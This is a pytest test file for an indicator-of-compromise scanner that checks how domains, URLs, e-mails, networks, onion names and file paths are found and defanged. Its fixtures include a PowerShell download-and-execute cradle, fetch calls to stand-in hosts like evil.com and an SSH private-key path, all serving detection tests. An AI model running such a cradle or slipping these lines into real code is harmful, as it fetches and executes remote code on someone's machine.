"""IOC engine, issue 19 (bugs): general rules of the scanner and its checks.

Each rule has cases it must find and traps it must not take. A trap is written next to
an indicator of the same rule, so that a test also fails when the rule is missing.
"""

from __future__ import annotations

import base64
import hashlib

import pytest

from app.services.iocs import IocType, defang_text, find_iocs

# A v3 onion id built the way Tor builds one: base32(pubkey | checksum | version 3).
_PUBKEY = bytes(range(32))
_CHECKSUM = hashlib.sha3_256(b".onion checksum" + _PUBKEY + b"\x03").digest()[:2]
ONION_V3 = base64.b32encode(_PUBKEY + _CHECKSUM + b"\x03").decode("ascii").lower()
DUCKDUCKGO_V3 = "duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad"
# the same id with its last character changed: the checksum no longer holds
BAD_ONION_V3 = ONION_V3[:-1] + ("a" if ONION_V3[-1] != "a" else "b")
ONION_V2 = "g5wcesdfjzne7255"


def pairs(text: str) -> list[tuple[str, str]]:
    return [(i.type.value, i.value) for i in find_iocs(text)]


# --- 1. upper-case TLDs --------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "domain"),
    [
        ("BAR.COM", "bar.com"),
        ("EVIL-SITE.NET", "evil-site.net"),
        ("Contact EVILSITE.RU now", "evilsite.ru"),
        ("VISIT WWW.EVIL-SITE.CO.UK TODAY", "www.evil-site.co.uk"),
        ("bar.COM", "bar.com"),
        ("the loader calls cdn.evil-site.NET first", "cdn.evil-site.net"),
    ],
)
def test_name_written_in_one_case_with_an_upper_case_tld_is_a_domain(
    text: str, domain: str
) -> None:
    assert pairs(text) == [("domain", domain)]


def test_all_capitals_domain_keeps_its_raw_form_and_is_defanged_as_written() -> None:
    (ioc,) = find_iocs("C2: EVIL-SITE.NET")
    assert (ioc.value, ioc.raw) == ("evil-site.net", "EVIL-SITE.NET")
    assert defang_text("C2: EVIL-SITE.NET") == "C2: EVIL-SITE[.]NET"


@pytest.mark.parametrize(
    "trap",
    [
        "ASP.NET",
        "VB.NET",
        "ADO.NET",
        "COMMAND.COM",
        "System.IO",
        "MSIL/Tiny.BG",
        "Trojan.Win32.Agent.XYZ",
        "TROJAN.WIN32.AGENT.XYZ",
        "Evil-Site.COM",
        "level=logging.INFO",
        "HO.RE.CA.",
        "Lingott GMBH & CO.KG",
    ],
)
def test_capitalised_code_detection_names_and_abbreviations_stay_out(trap: str) -> None:
    assert pairs(f"{trap} and EVIL-SITE.NET") == [("domain", "evil-site.net")]


# --- 2. a URL ends at its closing quote ----------------------------------------------


@pytest.mark.parametrize(
    ("text", "url"),
    [
        (
            "IEX(New-Object Net.WebClient).DownloadString('https://example[.]com/rdp.ps1');g $I",
            "https://example.com/rdp.ps1",
        ),
        ("x='https://evil.com/a?b=1'+y", "https://evil.com/a?b=1"),
        ("fetch(https://evil.com/gate');next()", "https://evil.com/gate"),
        ("load('https://evil.com/x'),next", "https://evil.com/x"),
    ],
)
def test_url_ends_at_the_quote_that_closes_it(text: str, url: str) -> None:
    assert pairs(text) == [("url", url)]


def test_apostrophe_inside_a_path_without_an_opening_quote_stays() -> None:
    text = "see https://en.wikipedia.org/wiki/O'Brien and DownloadString('https://evil.com/a');x"
    assert pairs(text) == [
        ("url", "https://en.wikipedia.org/wiki/O'Brien"),
        ("url", "https://evil.com/a"),
    ]


# --- 3. underscores in subdomain labels ----------------------------------------------


@pytest.mark.parametrize(
    ("text", "domain"),
    [
        ("o_o.lgms.nl", "o_o.lgms.nl"),
        ("beacons to sub_domain.evil-site.net daily", "sub_domain.evil-site.net"),
        ("the record _dmarc.evil-site.net", "_dmarc.evil-site.net"),
        ("Legitimate domain (`dl_dir.qq[.]com`)", "dl_dir.qq.com"),
    ],
)
def test_bare_domain_with_an_underscore_in_a_subdomain_label_is_found(
    text: str, domain: str
) -> None:
    assert pairs(text) == [("domain", domain)]


@pytest.mark.parametrize(
    "trap",
    [
        "my_var.name",
        "self_obj.info",
        "__init__.py",
        "string1.as_str()",
        "evil_site.com",
        "var.aws_region",
        "loginBox.register.email_repeat",
    ],
)
def test_underscore_in_the_registrable_label_is_code_not_a_domain(trap: str) -> None:
    assert pairs(f"{trap} then o_o.lgms.nl") == [("domain", "o_o.lgms.nl")]


def test_underscores_around_a_name_are_markdown_emphasis() -> None:
    assert pairs("the C2 _evil-site.net_ and *x*") == [("domain", "evil-site.net")]


# --- 4. separators before an e-mail's local part -------------------------------------


@pytest.mark.parametrize(
    ("text", "raw"),
    [
        ("-----foo@bar.com", "foo@bar.com"),
        ("...foo@bar.com", "foo@bar.com"),
        ("+--_foo.smith@bar.com", "foo.smith@bar.com"),
    ],
)
def test_leading_separators_are_not_part_of_an_email(text: str, raw: str) -> None:
    (ioc,) = find_iocs(text)
    assert (ioc.type, ioc.value, ioc.raw) == (IocType.EMAIL, raw, raw)
    assert text[ioc.start : ioc.end] == raw


def test_malformed_local_parts_are_still_refused() -> None:
    text = "foo.@bar.com a..b@bar.com -----ok@bar.com"
    assert pairs(text) == [("email", "ok@bar.com")]


# --- 5. borderline decisions ---------------------------------------------------------


@pytest.mark.parametrize("scheme", ["http", "https", "hxxp", "HTTP"])
def test_mangled_scheme_separator_yields_the_host_as_a_domain(scheme: str) -> None:
    found = find_iocs(f"seen: {scheme}__evil-site.net/test")
    assert [(i.type.value, i.value, i.raw) for i in found] == [
        ("domain", "evil-site.net", "evil-site.net")
    ]


def test_mangled_scheme_needs_its_double_underscore() -> None:
    assert pairs("http_evil-site.net and http__evil-site.org/x") == [("domain", "evil-site.org")]


@pytest.mark.parametrize(
    ("text", "domain"),
    [
        ("%2Ffreasdfuewriter.com", "freasdfuewriter.com"),
        ("?u=https%3A%2F%2Fevil-site.net%2Fgate.php", "evil-site.net"),
        ("redirect=%2F%2Fevil-site.net", "evil-site.net"),
    ],
)
def test_name_after_url_encoded_separators_is_a_domain(text: str, domain: str) -> None:
    assert pairs(text) == [("domain", domain)]


def test_encoded_separator_inside_a_path_or_a_word_opens_nothing() -> None:
    text = "evil-site.net/%2Fabc.de and 50%2Fxyz.de and %2Fok-site.com"
    assert pairs(text) == [("domain", "evil-site.net"), ("domain", "ok-site.com")]


def test_ipv6_loopback_is_kept_and_flagged_like_127_0_0_1() -> None:
    found = {i.value: (i.type, i.flags) for i in find_iocs("bound to ::1 and 127.0.0.1")}
    assert found == {
        "::1": (IocType.IPV6, ("loopback",)),
        "127.0.0.1": (IocType.IPV4, ("loopback",)),
    }


def test_other_short_ipv6_forms_stay_out_next_to_the_loopback() -> None:
    assert pairs("std::vector, a::b, ::2 and [::1]:8080") == [("ipv6", "::1")]


def test_spaced_dot_before_a_clear_tld_is_a_defang_also_in_an_email() -> None:
    # decision: " . " before com/net/org... is refanged wherever it stands (a name on its
    # left is required), so an e-mail written that way is one e-mail
    assert pairs("mail myuser@example . com or evil-site . net") == [
        ("email", "myuser@example.com"),
        ("domain", "evil-site.net"),
    ]
    # a word, not a TLD, after the spaced dot: prose
    assert pairs("It ended . Then came . community day . Comedy") == []


# --- 6. networks (CIDR) --------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("block 203.0.113.0/24 now", [("ipv4_cidr", "203.0.113.0/24")]),
        ("203.0.113[.]0/24", [("ipv4_cidr", "203.0.113.0/24")]),
        ("10.10.0[.]0/16,", [("ipv4_cidr", "10.10.0.0/16")]),
        ("ranges 2001:db8::/32.", [("ipv6_cidr", "2001:db8::/32")]),
        ("2a0e:97c0:3e0::/48", [("ipv6_cidr", "2a0e:97c0:3e0::/48")]),
        ("2001:0DB8:0000::/48", [("ipv6_cidr", "2001:db8::/48")]),
        ("0.0.0.0/0", [("ipv4_cidr", "0.0.0.0/0")]),
    ],
)
def test_address_with_a_prefix_is_a_network(text: str, expected: list[tuple[str, str]]) -> None:
    assert pairs(text) == expected


def test_network_keeps_its_raw_form_and_type() -> None:
    (ioc,) = find_iocs("seen from 203.0.113[.]0/24 today")
    assert (ioc.type, ioc.value, ioc.raw) == (
        IocType.IPV4_CIDR,
        "203.0.113.0/24",
        "203.0.113[.]0/24",
    )


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("10.0.0.1/8", ("ipv4", "10.0.0.1")),  # host bits set: the host is the indicator
        ("10.0.0.1/32", ("ipv4", "10.0.0.1")),  # one address
        ("1.2.3.4/2024", ("ipv4", "1.2.3.4")),  # no prefix: a date or a ratio
        ("1.2.3.0/24/x", ("ipv4", "1.2.3.0")),  # a path
        ("10.0.0.0/08", ("ipv4", "10.0.0.0")),  # a prefix has no leading zero
        ("2001:db8::1/64", ("ipv6", "2001:db8::1")),
        ("2001:db8::1/128", ("ipv6", "2001:db8::1")),
    ],
)
def test_prefix_that_does_not_make_a_network_leaves_the_address(
    text: str, address: tuple[str, str]
) -> None:
    assert pairs(f"{text} and 198.51.100.0/24") == [address, ("ipv4_cidr", "198.51.100.0/24")]


def test_version_numbers_and_url_paths_are_not_networks() -> None:
    text = "version 1.2.3.0/24, http://evil.com/203.0.113.0/24 and 192.0.2.0/24"
    assert pairs(text) == [
        ("url", "http://evil.com/203.0.113.0/24"),
        ("ipv4_cidr", "192.0.2.0/24"),
    ]


# --- 7. onion services ---------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        f"{ONION_V3}.onion",
        f"{DUCKDUCKGO_V3}.onion",
        f"www.{DUCKDUCKGO_V3}.onion",
        f"{ONION_V2}.onion",
    ],
)
def test_onion_service_names_are_domains(name: str) -> None:
    assert pairs(f"leak site {name} and {BAD_ONION_V3}.onion") == [("domain", name)]


def test_onion_with_a_bad_checksum_or_a_made_up_id_is_not_reported() -> None:
    text = f"{BAD_ONION_V3}.onion, bad.example.onion, {ONION_V3[:40]}.onion, {ONION_V3}.onion"
    assert pairs(text) == [("domain", f"{ONION_V3}.onion")]


def test_onion_urls_need_a_valid_service_id() -> None:
    text = f"http://{DUCKDUCKGO_V3}.onion/path and http://{BAD_ONION_V3}.onion/x"
    assert pairs(text) == [("url", f"http://{DUCKDUCKGO_V3}.onion/path")]
    # the refused one is still defanged for display: no live link is left
    assert "http://" not in defang_text(text)


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("C:\\Users\\x\\.ssh\\id_rsa", "C:\\Users\\x\\.ssh\\id_rsa"),
        (
            "%ALLUSERSPROFILE%\\Oracle\\Java\\.NET35\\jusched.exe",
            "%ALLUSERSPROFILE%\\Oracle\\Java\\.NET35\\jusched.exe",
        ),
    ],
)
def test_a_backslash_before_a_dot_in_a_path_is_a_separator_not_a_defang(
    text: str, path: str
) -> None:
    assert [(i.type.value, i.value) for i in find_iocs(text)] == [("file_path", path)]


def test_backslash_dot_between_labels_of_a_name_is_still_a_defang() -> None:
    found = [
        (i.type.value, i.value) for i in find_iocs("beacon to evil\\.com and sub\\.evil\\.com")
    ]
    assert found == [("domain", "evil.com"), ("domain", "sub.evil.com")]
